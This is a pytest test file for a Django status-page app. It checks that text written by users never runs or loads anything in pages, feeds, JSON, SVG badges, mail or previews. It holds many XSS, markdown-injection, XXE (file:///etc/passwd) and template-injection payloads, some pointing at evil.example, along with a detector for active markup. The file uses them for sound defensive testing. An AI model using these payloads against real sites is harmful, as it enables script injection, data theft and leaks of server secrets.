"""What people write for the public, against each place where it is read: nothing of it acts, loads or runs there.

Pages are read by the rules that browsers have (WHATWG's tree construction), so that what is broken on purpose is judged
by what it comes to.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit
from xml.etree import ElementTree

import html5lib
import pytest
from django.conf import settings
from django.test import Client

from comms import letters
from comms.actions import publishing, subscribing
from comms.models import Component, ComponentGroup, Delivery, PageIncident, StatusPage, StatusUpdate, Subscriber
from incidents.models import Postmortem
from incidents.phases import Phase
from incidents.problems import Blocked
from teams.models import Team, User
from tests import factories
from tests.cast import everybody
from tests.sweeps import WHOLE

SCRIPTS = [
    "<script>pwn()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "</title><script>pwn()</script>",
    "</textarea></style></noscript></template><script>pwn()</script>",
    "<svg onload=pwn()>",
    "<svg/onload=pwn()//",
    "<svg><animate onbegin=pwn() attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn()>#x'/></svg>",
    "<math><mi xlink:href=javascript:pwn()>x</mi></math>",
    "<img src=x onerror=pwn()>",
    "<img src=`x`onerror=pwn()>",
    "<body onload=pwn()>",
    "<details open ontoggle=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>pwn()</script>'>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example)}</style>",
    "<p style=background:url(//evil.example)>x</p>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<video poster=//evil.example src=//evil.example autoplay></video><audio src=//evil.example>",
    "<!--><script>pwn()</script>-->",
    "<![CDATA[><script>pwn()</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;script&#62;pwn()&#60;/script&#62;",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "%3Cscript%3Epwn()%3C/script%3E",
    "\"'><script>pwn()</script>",
    '" onmouseover="pwn()" x="',
    "' onfocus='pwn()' autofocus x='",
    "<a href=javascript:pwn()>x</a>",
    "]]></title><script>pwn()</script>",
    "\x0b\x08<script>pwn()</script>\x1b[31m",
    "\u202e<script>pwn()</script>\u2066",
    "\ufeff\u200b<script>pwn()</script>",
    "<ſcript>pwn()</ſcript>",
]
MARKDOWN = [
    "[x](javascript:pwn())",
    "[x](JaVaScRiPt:pwn())",
    "[x](java\tscript:pwn())",
    "[x](&#106;avascript:pwn())",
    "[x](javascript&colon;pwn())",
    "[x](\x01javascript:pwn())",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:pwn())",
    "[x](file:///etc/passwd)",
    '[x](//evil.example/ "onmouseover=pwn()")',
    '[x](http://a"onmouseover="pwn())',
    "![x](//evil.example/pixel.png)",
    "![x](https://evil.example/pixel.png)",
    "![x][p]\n\n[p]: https://evil.example/pixel.png",
    "[![x](https://evil.example/pixel.png)](https://example.org)",
    "[r]: javascript:pwn()\n\n[r] [x][r]",
    "<javascript:pwn()>",
    "<https://a'onclick=pwn()>",
    "https://a/<img src=x onerror=pwn()>",
    "`<img src=x onerror=pwn()>`",
    '```"><script>\npwn()\n```',
    "~~~html\n<script>pwn()</script>\n~~~",
    "| <img src=x onerror=pwn()> |\n|-|\n| [x](javascript:pwn()) |",
    "# <svg onload=pwn()>\n\n> <iframe src=//evil.example>",
    "- <details open ontoggle=pwn()>",
    "<div\nonclick=pwn()\n>x</div>",
    "[x]: <javascript:pwn()> 'y'\n[x]",
    "a\n\n    <script>pwn()</script>",
]
PLACEHOLDERS = [
    "{{ incident.incident.title }} {{ settings.SECRET_KEY }} {{ 7|add:7 }}",
    "{% load static %}{% debug %}{% include 'base.html' %}",
    "{0.__class__.__mro__} {update.page_incident.incident} {self.__init__.__globals__}",
    "%(password)s %s ${7*7} #{7*7} <%= 7*7 %> {{7*7}}",
]
# Broken so that nothing comes of them where they stand alone.
NOT_HTML = {"<scr<script>ipt>pwn()</scr</script>ipt>", "<svg/onload=pwn()//"}
PAYLOADS = [*SCRIPTS, *MARKDOWN, *PLACEHOLDERS]
ACTIVE = {
    *("script", "iframe", "frame", "object", "embed", "applet", "base", "style", "img", "image", "picture", "source"),
    *("video", "audio", "track", "portal", "template", "animate", "animatetransform", "animatemotion", "set"),
    *("foreignobject", "marquee", "math", "feimage", "handler", "listener"),
}
LOADS = {"src", "srcset", "poster", "background", "data", "srcdoc", "ping", "formaction", "manifest", "lowsrc", "icon"}
SCHEMES = {"", "http", "https", "mailto"}


def elements(html: str, *, fragment: bool = False) -> Iterator[tuple[str, dict[str, str]]]:
    """Each element of what a browser makes of it: its name, and its attributes by their names."""
    read = html5lib.parseFragment if fragment else html5lib.parse
    for each in read(html, treebuilder="etree", namespaceHTMLElements=False).iter():
        if isinstance(each.tag, str):
            attributes = {name.rpartition("}")[2].lower(): value for name, value in each.attrib.items()}
            yield each.tag.rpartition("}")[2].lower(), attributes


def scheme(address: str) -> str:
    """What a browser takes for it: white space and control characters don't count."""
    bare = "".join(c for c in address if ord(c) > 0x20)
    head, colon, _ = bare.partition(":")
    return head.lower() if colon and not set(head) & set("/?#") else ""


def dangers(html: str, *, fragment: bool = False, mail: bool = False) -> list[str]:
    """What acts, loads or leads to a script. Our own pages load scripts and styles of ours, by `src` and `href` that
    begin with one slash; mail styles its own elements."""
    found = []
    for tag, given in elements(html, fragment=fragment):
        ours = {name for name in ("src", "href") if given.get(name, "").startswith("/static/")}
        what = f"<{tag} {given}>"
        if tag in ACTIVE and not (tag == "script" and ours and not fragment) and not (tag == "style" and mail):
            found.append(what)
        if tag == "link" and not ours and given.get("rel") not in ("alternate", "canonical"):
            found.append(what)
        if tag == "meta" and "http-equiv" in given and given.get("http-equiv", "").lower() != "content-type":
            found.append(what)
        action = given.get("action", "/")
        if tag == "form" and (not action.startswith("/") or action.startswith("//")):
            found.append(what)
        if tag == "use" and not given.get("href", "").startswith("#"):
            found.append(what)
        for name, value in given.items():
            acts = name.startswith("on") or (name == "style" and not mail)
            loads = name in LOADS and name not in ours
            leads = name in ("href", "action", "cite", "xlink:href") and scheme(value) not in SCHEMES
            if acts or loads or leads:
                found.append(what)
        if mail and "url(" in given.get("style", ""):
            found.append(what)
    return found


def test_the_search_for_danger_finds_it() -> None:
    """Proves that the tests below could fail."""
    for html in (
        *(each for each in SCRIPTS[:24] if each not in NOT_HTML),
        "<a href=' java\nscript:pwn()'>",
        "<svg/onload=pwn()//>",
        "<a href=data:text/html,x>",
        "<link rel=preload href=https://evil.example>",
    ):
        assert dangers(f"<!doctype html><title>x</title><body>{html}", fragment=False), html


def say(row: PageIncident, by: User, body: str, **fields: Any) -> None:
    """Publish it, past the check of placeholders, as if somebody had written it into the database."""
    update = publishing.publish_update(row, by=by, body="x", **fields)
    StatusUpdate.objects.filter(pk=update.pk).update(body=body)


@pytest.mark.parametrize("text", PLACEHOLDERS)
def test_what_reaches_into_objects_is_not_published(
    payments: Team, alice: User, public_page: StatusPage, text: str
) -> None:
    incident = factories.incident(payments, alice)
    if "{{" not in text and "{%" not in text:
        assert publishing.publish_update(incident, by=alice, title="T", body=text).body == text
        return
    with pytest.raises(Blocked, match="is no placeholder"):
        publishing.publish_update(incident, by=alice, title="T", body=text)


def hostile(alice: User, payments: Team, payloads: list[str]) -> StatusPage:
    """A page on which everything that people write is hostile, each in its own way."""
    page = StatusPage.objects.create(
        name=payloads[0][:80], slug="bad", description=payloads[1], is_default=True, support_url="https://example.org/"
    )
    Subscriber.objects.create(page=page, email="reader@example.org", state="active")
    for number, payload in enumerate(payloads):
        group = ComponentGroup.objects.create(page=page, name=payload[:80], position=number)
        part = Component.objects.create(page=page, group=group, name=payload[:80], description=payload[:200])
        row = PageIncident.objects.create(page=page, title="x")
        say(row, alice, payload, title=payload, component_states={part: "major_outage"}, notify=True)
        say(row, alice, f"> {payload}\n\n1. {payload}", notify=False)
    incident = factories.incident(payments, alice, phase=Phase.CLOSED)
    Postmortem.objects.filter(incident=incident).update(public=True, public_as_written=True, title=payloads[2][:200])
    for section, payload in zip(incident.postmortem.sections.all(), payloads, strict=False):
        incident.postmortem.sections.filter(pk=section.pk).update(title=payload[:80], text=payload)
    return page


def documents(client: Client, page: StatusPage) -> Iterator[tuple[str, str]]:
    stories = PageIncident.objects.filter(page=page)
    (month,) = {f"{row.started_at:%Y-%m}" for row in stories}
    review = Postmortem.objects.get(public=True)
    paths = ["/status/", "/status/bad/history/", f"/status/bad/history/{month}/", "/status/bad/subscribe/"]
    paths += [f"/postmortems/{review.public_slug}/", *(row.get_absolute_url() for row in stories)]
    for path in paths:
        answer = client.get(path)
        assert answer.status_code == 200, path
        yield path, answer.text


def bodies(tree: ElementTree.Element) -> list[str]:
    """What readers of feeds show as HTML: descriptions and summaries, and titles as well in some of them."""
    return [e.text or "" for e in tree.iter() if e.tag.rpartition("}")[2] in ("description", "summary", "content")]


def _is_html(tree: ElementTree.Element, text: str) -> bool:
    return text in bodies(tree)


class Telling:
    """A third of the payloads in each of those below, since feeds have the latest incidents only."""

    payloads: list[str]

    @classmethod
    def standing(cls) -> dict[str, Any]:
        cast = everybody()
        return {**cast, "told": hostile(cast["alice"], cast["payments"], cls.payloads)}

    @pytest.fixture
    def told(self, stood: dict[str, Any]) -> StatusPage:
        page: StatusPage = stood["told"]
        return page

    def test_nothing_acts_on_a_page(self, client: Client, told: StatusPage) -> None:
        seen = dict(documents(client, told))
        assert len(seen) > len(self.payloads)
        found = {path: dangers(html) for path, html in seen.items()}
        assert {path: what for path, what in found.items() if what} == {}
        everything = "".join(seen.values())
        assert "\u202e" not in everything
        assert "\x0b" not in everything
        # What looks like a template is text.
        for text in ("{{ settings.SECRET_KEY }}", "{0.__class__.__mro__}", "{{7*7}}"):
            assert any(text in payload for payload in self.payloads) == (text in everything)
        assert settings.SECRET_KEY not in everything

    def test_nothing_acts_in_feeds(self, client: Client, told: StatusPage) -> None:
        for kind in ("rss", "atom"):
            answer = client.get(f"/history.{kind}")
            tree = ElementTree.fromstring(answer.content)
            names = {each.tag.rpartition("}")[2] for each in tree.iter()}
            assert not names & ACTIVE
            texts = [each.text or "" for each in tree.iter()]
            assert any("pwn" in text for text in texts)
            for text in texts:
                assert dangers(text, fragment=True) == [] or not _is_html(tree, text), text
            for html in bodies(tree):
                assert dangers(html, fragment=True) == []
                # A reader of feeds is elsewhere.
                assert all(
                    urlsplit(g["href"]).scheme for t, g in elements(html, fragment=True) if t == "a" and "href" in g
                )

    def test_nothing_acts_in_json_and_picture(self, client: Client, told: StatusPage) -> None:
        answer = client.get("/api/v2/summary.json")
        assert (answer["Content-Type"], answer["X-Content-Type-Options"]) == ("application/json", "nosniff")
        assert len(json.loads(answer.content)["incidents"]) == len(self.payloads)
        badge = client.get("/status/bad/badge.svg")
        assert (badge["Content-Type"], badge["X-Content-Type-Options"]) == ("image/svg+xml", "nosniff")
        assert (
            "script-src" in badge["Content-Security-Policy"] or "default-src 'none'" in badge["Content-Security-Policy"]
        )
        for each in ElementTree.fromstring(badge.content).iter():
            assert each.tag.rpartition("}")[2] in ("svg", "title", "rect", "path", "g", "text")
            assert not [name for name in each.attrib if name.startswith("on") or "href" in name or name == "style"]

    def test_nothing_acts_in_mail(self, told: StatusPage) -> None:
        subscribing.subscribe(told, "new@example.org")
        written = 0
        for delivery in Delivery.objects.filter(kind__in=("update", "confirm")):
            message = letters.write(letters.reload(delivery)).message
            html = message.get_body(("html",)).get_content()
            assert dangers(html, mail=True) == [], delivery
            assert all(
                urlsplit(given["href"]).scheme for tag, given in elements(html) if tag == "a" and given.get("href")
            )
            for name, value in message.items():
                assert not [c for c in value if not (c.isprintable() or c in "\r\n\t ")], name
            text = message.get_body(("plain",)).get_content()
            assert not set(text) & {"\u202e", "\u2066", "\x0b", "\x08", "\x1b"}
            written += 1
        assert written == len(self.payloads) + 1


class TestOneThird(Telling):
    payloads = PAYLOADS[::3]


class TestAnother(Telling):
    payloads = PAYLOADS[1::3]


class TestTheLast(Telling):
    payloads = PAYLOADS[2::3]


def test_nothing_acts_in_a_preview(client: Client, payments: Team, alice: User, told_page: StatusPage) -> None:
    client.force_login(alice)
    incident = factories.incident(payments, alice)
    given = {"uid": "abcdefgh2345", "state": "investigating", "impact": "minor", "promise": "30", "when": "now"}
    # The same makes it that makes the page.
    tried = PAYLOADS if WHOLE else PAYLOADS[::4]
    shown = 0
    for payload in tried:
        typed = given | {"title": payload, "body": payload}
        answer = client.post(f"/incidents/{incident.pk}/updates/preview/", typed)
        assert dangers(answer.text, fragment=True) == [], payload
        assert settings.SECRET_KEY not in answer.text
        shown += answer.status_code == 200
    assert shown > len(tried) / 2


@pytest.fixture
def told_page(db: Any) -> StatusPage:
    return StatusPage.objects.create(name="Shop", slug="shop", is_default=True)


def test_a_null_character_is_refused_with_a_sentence(
    client: Client, payments: Team, alice: User, told_page: StatusPage
) -> None:
    client.force_login(alice)
    incident = factories.incident(payments, alice)
    given = {"uid": "abcdefgh2345", "title": "x\x00", "state": "investigating", "body": "y\x00", "impact": "minor"}
    answer = client.post(f"/incidents/{incident.pk}/updates/", given | {"promise": "30", "when": "now"})
    assert answer.status_code == 422
    assert "Null characters are not allowed" in answer.text
